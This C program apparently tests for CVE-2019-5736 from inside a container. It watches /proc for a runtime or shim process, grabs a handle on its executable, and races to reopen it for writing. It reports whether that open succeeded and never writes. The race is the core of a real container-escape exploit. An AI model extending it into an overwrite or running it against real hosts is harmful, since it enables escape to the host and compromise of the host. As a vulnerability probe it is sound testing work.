// The CVE-2019-5736 attacker, run inside a container: it waits for a process whose executable is neither itself
// nor busybox (a process of the runtime or shim entering the container, or what a `#!/proc/self/exe` script
// made the kernel run), takes an O_PATH handle on its /proc/PID/exe, then retries opening that handle for
// writing while the open fails with ETXTBSY (the file is still being executed). It never writes.
//   usage: exe-attack SECONDS
// Prints "caught pid=N exe=PATH" and then one line "RESULT opened-for-writing" or "RESULT errno=NAME", or
// "RESULT none" when nothing was caught in SECONDS.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int same_file(const struct stat *a, const struct stat *b) {
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

// 1: caught (the result is printed), 0: not ours to attack, -1: not reachable (yet)
static int attack(int pid, const struct stat *self, const struct stat *busybox, double deadline) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int handle = open(path, O_PATH | O_CLOEXEC);
    if (handle < 0) return -1;
    struct stat info;
    if (fstat(handle, &info) != 0 || same_file(&info, self) || same_file(&info, busybox)) {
        close(handle);
        return 0;
    }
    char target[4096] = "?";
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n > 0) target[n] = 0;
    printf("caught pid=%d exe=%s\n", pid, target);
    char self_fd[64];
    snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", handle);
    for (;;) {
        int writable = open(self_fd, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (writable >= 0) {
            printf("RESULT opened-for-writing\n");
            return 1;
        }
        if (errno != ETXTBSY || now() > deadline) {
            printf("RESULT errno=%s\n", strerrorname_np(errno));
            return 1;
        }
        usleep(1000);
    }
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    double deadline = now() + (argc > 1 ? atof(argv[1]) : 10);
    struct stat self, busybox;
    if (stat("/proc/self/exe", &self) != 0 || stat("/bin/busybox", &busybox) != 0) {
        perror("exe-attack: stat");
        return 2;
    }
    int me = getpid();
    while (now() < deadline) {
        DIR *proc = opendir("/proc");
        if (!proc) { perror("exe-attack: /proc"); return 2; }
        struct dirent *entry;
        int watched = 0;
        while ((entry = readdir(proc))) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == me) continue;
            int outcome = attack(pid, &self, &busybox, deadline);
            if (outcome == 1) { closedir(proc); return 0; }
            if (outcome == -1) watched = pid;
        }
        closedir(proc);
        // A process that exists but whose exe cannot be opened yet (non-dumpable while it sets up): spin on it
        // alone until it becomes reachable or is gone, so its short life after its last exec is not missed.
        if (watched) {
            char dir[64];
            snprintf(dir, sizeof dir, "/proc/%d", watched);
            while (now() < deadline && access(dir, F_OK) == 0) {
                int outcome = attack(watched, &self, &busybox, deadline);
                if (outcome == 1) return 0;
                if (outcome == 0) break;
            }
        }
    }
    printf("RESULT none\n");
    return 0;
}
